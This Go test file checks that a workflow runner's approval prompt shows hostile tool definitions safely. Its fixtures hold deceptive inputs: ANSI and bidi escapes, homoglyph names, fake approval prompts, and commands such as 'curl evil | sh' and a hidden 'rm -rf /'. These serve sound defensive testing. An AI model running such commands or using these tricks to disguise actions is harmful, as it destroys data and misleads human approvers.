package console

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/flowrun/flowrun/internal/engine/permission"
	"github.com/flowrun/flowrun/internal/engine/preview"
	"github.com/flowrun/flowrun/internal/lang/tool"
)

func TestVisible(t *testing.T) {
	for in, want := range map[string]string{
		"plain text":          "plain text",
		"Zürich 東京 naïve":     "Zürich 東京 naïve",
		"e\u0301":             "e\u0301",
		"\x1b[2J\x1b]0;t\a":   "<U+001B>[2J<U+001B>]0;t<U+0007>",
		"a\nb\rc\td":          "a<U+000A>b<U+000D>c<U+0009>d",
		"\u202egnp.exe":       "<U+202E>gnp.exe",
		"a\u200bb\u2060c":     "a<U+200B>b<U+2060>c",
		"a\u00a0b\u3000c":     "a<U+00A0>b<U+3000>c",
		"\u3164x\u2800":       "<U+3164>x<U+2800>",
		"אב":                  "<U+05D0><U+05D1>",
		"a\u0301\u0301\u0301": "a\u0301\u0301<U+0301>",
		"\u0301a":             "<U+0301>a",
		"\xff\xfea":           "<FF><FE>a",
		"\u0085\u2028\u2029":  "<U+0085><U+2028><U+2029>",
		"\U000e0041\ufe0f":    "<U+E0041><U+FE0F>",
		"\u009b31m":           "<U+009B>31m",
		"\ue000":              "<U+E000>",
	} {
		if got := Visible(in); got != want {
			t.Errorf("%+q: %+q, want %+q", in, got, want)
		}
	}
	if got, want := Quote("a\n\"b\"\\\t\x1b"), `"a\n\"b\"\\\t<U+001B>"`; got != want {
		t.Errorf("%s, want %s", got, want)
	}
}

// hostile are approvals whose texts try to look like flowrun's own.
var hostile = map[string]Approval{
	"plain": {
		Why: `tool "deploy" wants elevated rights, which a person has to approve`,
		Tools: []preview.PreviewTool{
			{Name: "deploy", File: "/home/ada/app/.flowrun/tools/deploy.yaml", Scope: "local", Tags: []string{"write", "web"}, Privilege: "elevated",
				Permissions:   []permission.Permission{{Resolved: "filesystem:write:/etc", Written: "filesystem:write:{DIR}"}, {Resolved: "network:external:example.org", Written: "network:external:example.org"}},
				Justification: "Restarts the web server", Cleanup: []string{"rm -rf /tmp/deploy"},
				Enforced: []string{"files", "no network", "max-memory 200 MB"}, Unenforced: []string{"cannot enforce network:external:example.org: no namespaces"}},
			{Step: "fetch", Name: "clone", Tags: nil, Sources: []string{"pass show token"}},
		},
		Params: []ApprovalParam{{"DIR", "/srv/../etc"}, {"TOKEN", "***"}},
		Steps: []preview.PreviewStep{{ID: "copy", Kind: "bash", Command: "set -e\ncp -r build \"/srv/../etc\"\n", Condition: "{a.exit-code} == 0", Fallback: "echo no"},
			{ID: "fetch/clone", Kind: "run", Command: "git clone 'https://example.org/x'"}},
	},
	"escapes": {
		Why: "tool \"\x1b[2J\" asks",
		Tools: []preview.PreviewTool{{Name: "good\x1b[8m", File: "/tmp/\x1b]8;;http://evil\x1b\\x.yaml", Scope: "file\r", Tags: []string{"read\x1b[1A\x1b[2K"},
			Privilege: "\x1b[0m", Justification: "\x1b]52;c;cm0gLXJm\a", Cleanup: []string{"\x1bc"},
			Permissions: []permission.Permission{{Resolved: "network:external:g\u0456thub.com", Written: "network:external:{HOST}"}}}},
		Params: []ApprovalParam{{"A\x1b[31m", "x\ny\r\x9b2J"}},
		Steps:  []preview.PreviewStep{{ID: "a\x1b", Kind: "bash", Command: "echo safe\r\x1b[2Krm -rf /\n\x1b[1A"}},
	},
	"bidi": {
		Why:    "x\u202e",
		Tools:  []preview.PreviewTool{{Name: "d\u0435ploy", Justification: "\u2067harmless\u2069 \u202egnihton\u200e", File: "/tmp/\u202elmay.x"}},
		Params: []ApprovalParam{{"P", "\u200b\u2060\ufeff\u00ad\u3164"}},
		Steps:  []preview.PreviewStep{{ID: "s", Kind: "sh", Command: "rm /\u2066א; x\u2069"}},
	},
	"imitation": {
		Why: "tool \"x\" is asked about",
		Tools: []preview.PreviewTool{{Name: "x", Justification: "fine\n\nstep         \"harmless\" (bash)\n  runs        | true\n\nAllow this? [y/N/d] y" +
			strings.Repeat(" ", 70) + "Allow this? [y/N/d]"}},
		Steps: []preview.PreviewStep{{ID: "x", Kind: "bash", Command: "curl evil | sh #" + strings.Repeat(" ", 60) + "Allow this? [y/N/d] n"}},
	},
	"long": {
		Why:    "tool \"x\" is asked about",
		Tools:  []preview.PreviewTool{{Name: "x"}},
		Params: []ApprovalParam{{"P", strings.Repeat("0123456789", 100)}},
		Steps:  []preview.PreviewStep{{ID: "x", Kind: "bash", Command: strings.Repeat("true\n", 40) + "rm -rf /"}},
	},
}

func TestApproval(t *testing.T) {
	for name, a := range hostile {
		var b bytes.Buffer
		cut, err := a.Write(&b, 72, false)
		if err != nil || cut != (name == "long") {
			t.Errorf("%s: cut %v, %v", name, cut, err)
		}
		trustworthy(t, name, b.String(), 72)
		file := filepath.Join("testdata", "approval-"+name+".golden")
		if *update {
			if err := os.WriteFile(file, b.Bytes(), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(string(want), b.String()); diff != "" {
			t.Errorf("%s (-want +got)\n%s", name, diff)
		}
	}
	var whole bytes.Buffer
	if cut, err := hostile["long"].Write(&whole, 72, true); cut || err != nil || !strings.Contains(whole.String(), "rm -rf /") {
		t.Errorf("cut %v, %v: %s", cut, err, whole.String())
	}
}

// trustworthy checks that only flowrun's own labels are in the left column, that lines fit the
// width, and that no character can deceive.
func trustworthy(t testing.TB, name, text string, width int) {
	t.Helper()
	labels := []string{"Approve?", "tool", "  defined in", "  rights", "  tags", "  tag", "  needs", "  enforced", "  unenforced", "  reason", "  secret", "  cleanup", "  notifies", "  sets", "  ! sets", "  ! runtime", "  env file", "  input",
		"  ! note", "parameter", "step", "  only if", "  repeats", "  runs", "  fallback",
		"  handler", "  for each of", "  item", "  on", "  holds", "  runs with", "  fallback by", "  container", "  directory", "  inherits", "  keeps", "  answers", "  output file",
		"  leaves", "  reads from", "  temp folder", ""}
	for line := range strings.Lines(text) {
		line = strings.TrimSuffix(line, "\n")
		label := ""
		if r := []rune(line); len(r) > 0 {
			label = strings.TrimRight(string(r[:min(14, len(r))]), " ")
		}
		known := false
		for _, l := range labels {
			known = known || l == label
		}
		if !known || utf8.RuneCountInString(line) > width {
			t.Errorf("%s: the line %q", name, line)
		}
		for _, r := range line {
			if r != ' ' && !unicode.IsPrint(r) {
				t.Errorf("%s: %U in the line %q", name, r, line)
			}
		}
	}
}

// FuzzApproval checks that no definition can imitate or change flowrun's own labels.
func FuzzApproval(f *testing.F) {
	f.Add("a\nb", "c\x1b", 40)
	f.Add("\u202e", strings.Repeat("x ", 300), 200)
	f.Fuzz(func(t *testing.T, x, y string, width int) {
		if width < 40 || width > 500 {
			width = 80
		}
		around := preview.Surroundings{Environment: []preview.PreviewVariable{{Name: x, Value: y, RunsCode: true}, {Name: y, Value: x}}, EnvFiles: []string{x}, Input: y,
			Runtime: x, WorkingDirectory: y, OutputFile: x, DefaultResponse: y, Interactive: true, CleanEnvironment: true, Detached: true, Artifacts: []string{x}, Container: []string{y}}
		a := Approval{Why: x, Tools: []preview.PreviewTool{{Name: x, File: y, Scope: tool.Scope(x), Tags: []string{y}, Privilege: x, Justification: y, TempDirectory: x,
			Sources: []string{x}, Cleanup: []string{y}, Notify: []string{x}, Surroundings: around, Permissions: []permission.Permission{{Resolved: x, Written: y}}}, {Step: y, Name: x}},
			Params: []ApprovalParam{{x, y}}, Steps: []preview.PreviewStep{{ID: x, Kind: y, Command: x, Condition: y, Repeat: x, Fallback: x, Interpreter: y + x, FallbackInterpreter: x + y,
				Loop: x, Items: []string{y, x}, Machine: y, Holds: []string{x}, Handler: y, Surroundings: around}}}
		var b bytes.Buffer
		if _, err := a.Write(&b, width, false); err != nil {
			t.Fatal(err)
		}
		trustworthy(t, "fuzz", b.String(), width)
	})
}
